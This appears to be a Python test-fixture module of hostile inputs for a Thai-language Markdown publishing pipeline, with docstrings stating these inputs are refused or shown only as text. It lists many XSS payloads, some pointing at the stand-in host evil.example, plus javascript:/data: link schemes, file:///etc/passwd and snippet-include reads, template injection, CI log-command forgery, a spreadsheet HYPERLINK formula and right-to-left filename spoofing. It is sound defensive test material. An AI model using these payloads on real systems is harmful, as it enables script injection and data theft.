"""What a stranger might write into a record: Markdown, fields, and cells of a table."""

_HANDLERS = ("onerror", "onload", "onclick", "onfocus autofocus", "onmouseover", "ontoggle open")
_TAGS = ("img src=x", "svg", "details", "body", "iframe src=//evil.example", "math", "video", "a")
RAW = (
    *(f"<{tag} {handler}=alert(1)>" for tag in _TAGS for handler in _HANDLERS),
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=a autofocus onfocus=alert(1)>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    '<span data-oit="2568/O1" data-oit-status="complete" class="oit-badge">ครบถ้วน</span>',
    '<strong class="oit-sample">x</strong>',
    "<template><script>alert(1)</script></template>",
    "<!-- <img src=x onerror=alert(1)> -->",
    '!!! danger "<img src=x onerror=alert(1)>"',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
)
"""Raw HTML: each line of it is a finding, and no gate publishes it."""

_SCHEMES = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java&#x0A;script:alert(1)"),
    *("javascript&colon;alert(1)", "&#106;avascript:alert(1)", "vbscript:msgbox(1)"),
    *("data:text/html,<script>alert(1)</script>", "data:image/svg+xml;base64,PHN2Zz4="),
    *("file:///etc/passwd", "blob:https://evil.example/1", "\\x01javascript:alert(1)"),
)
LINKS = (
    *(f"[เปิด]({scheme})" for scheme in _SCHEMES),
    *(f"[เปิด](<{scheme}>)" for scheme in _SCHEMES),
    *(f"[เปิด][{number}]\n\n[{number}]: {scheme}" for number, scheme in enumerate(_SCHEMES)),
    "<javascript:alert(1)>",
    "![รูป](javascript:alert(1))",
    "![รูป](https://evil.example/a.png)",
    "![รูป](//evil.example/a.png)",
)
"""Links that no gate publishes, or that are no links at all."""

QUIET = (
    "`<script>alert(1)</script>` และ ``<img src=x onerror=alert(1)>``",
    "    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "```mermaid\ngraph TD; A-->B\n```",
    "\\<img src=x onerror=alert(1)\\> &lt;script&gt;alert(1)&lt;/script&gt;",
    "[ก](https://example.go.th '\" onmouseover=alert(1) x=\"')",
    '[ก](https://example.go.th/?a="><img/src=x/onerror=alert(1)>)',
    "{{ config.extra }} {% for x in [] %} {{ ''.__class__ }} {% endfor %}",
    "## หัวข้อ {: onclick=alert(1) .oit-badge data-oit=2568/O1 }",
    "ข้อความ {: style='position:fixed' onclick=alert(1) }",
    '--8<-- "/etc/passwd"',
    ';--8<-- "mkdocs.yml"',
    '!!! danger "x"\n    x',
    "??? note\n    x",
    "[TOC]",
    "~~ขีด~~ ==เน้น== ^^บน^^ :smile: H~2~O",
    "- [ ] <b>x</b>".replace("<b>", "\\<b\\>").replace("</b>", "\\</b\\>"),
    "| ก | ข |\n|---|---|\n| `<script>` | \\<img onerror=alert(1)\\> |",
    "## ชื่อ {#constructor}\n\nx",
    "## ชื่อ {#body}\n\nx",
    "## ชื่อ {#location}\n\nx",
    "ก" * 5000,
    "*" * 2000,
    "[" * 1000,
    "> " * 200 + "ลึก",
    "`" * 1001 + "x" + "`" * 1000,
    "\n".join(f"{'#' * (number % 6 + 1)} หัวข้อ {number}" for number in range(300)),
    "&#0; &#x1F600; &nbsp; &lt;/article&gt; &quot;",
    "</article></main>".replace("<", "\\<"),
)
"""Text that is published: as words, and as nothing else."""

FIELDS = (
    "<img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "{{ 7*7 }}{% raw %}",
    "javascript:alert(1)",
    "::error file=x::forged",
    "##[error]forged",
    '=HYPERLINK("//evil.example")',
)
"""Values of fields and cells."""

TURNED = ("\u202eข้อความกลับด้าน\u202c \u2066ก\u2069 \u200bก\u200bข\ufeff", "\u202egnp.exe")
"""Text that is shown in another order than it is written: refused wherever it stands."""
